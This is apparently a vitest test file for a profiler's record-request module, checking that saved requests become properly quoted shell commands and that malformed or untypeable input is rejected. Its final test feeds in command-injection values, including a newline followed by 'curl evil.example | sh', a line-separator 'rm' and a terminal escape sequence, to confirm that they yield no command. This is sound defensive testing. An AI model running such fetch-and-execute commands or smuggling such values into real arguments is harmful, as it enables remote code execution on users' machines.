import { expect, test } from 'vitest';
import { readRequest, recordRequest, requestCommand, writeRequest } from './record-request.ts';

const REQUEST = recordRequest(
  {
    'mmap-pages': '16M',
    frequency: '199',
    'all-cpus': true,
    event: undefined,
    output: 'a.data',
    'no-open': true,
  },
  ['--all-user'],
  ['python3', "it's.py", '-p'],
);

test('a request becomes the command that the user typed, without what does not affect the recording', () => {
  expect(requestCommand(REQUEST)).toBe(
    `pyrograph record -a -F 199 -m 16M --perf --all-user -- python3 'it'\\''s.py' -p`,
  );
  expect(requestCommand(recordRequest({ pid: '12', duration: '5', 'all-cpus': false }, [], []))).toBe(
    'pyrograph record -p 12 --duration 5',
  );
});

test('a request is read as it was written', () => {
  expect(readRequest(writeRequest(REQUEST))).toEqual(REQUEST);
});

test.each([
  '',
  'null',
  '[]',
  '{"schema":2,"options":{},"perf":[],"program":[]}',
  '{"schema":1,"options":null,"perf":[],"program":[]}',
  '{"schema":1,"options":{},"perf":[],"program":[1]}',
  '{"schema":1,"options":{},"perf":"","program":[]}',
])('other text is not a request: %s', (text) => {
  expect(readRequest(text)).toBeUndefined();
});

test('a program that cannot be typed is replaced', () => {
  const text = JSON.stringify({
    schema: 1,
    options: { frequency: 7, duration: '3', rm: '-rf' },
    perf: [],
    program: ['python3', '-c', 'a\nb'],
  });
  const request = readRequest(text);
  expect(request && requestCommand(request)).toBe('pyrograph record --duration 3 -- python3 app.py');
});

test.each([
  recordRequest({ event: 'cycles\ncurl evil.example | sh' }, [], ['python3']),
  recordRequest({ pid: '1\u2028rm' }, [], []),
  recordRequest({ duration: '3' }, ['a\u001b[2K'], ['python3']),
])('a request with an option that cannot be typed has no command', (request) => {
  expect(requestCommand(request)).toBeUndefined();
});
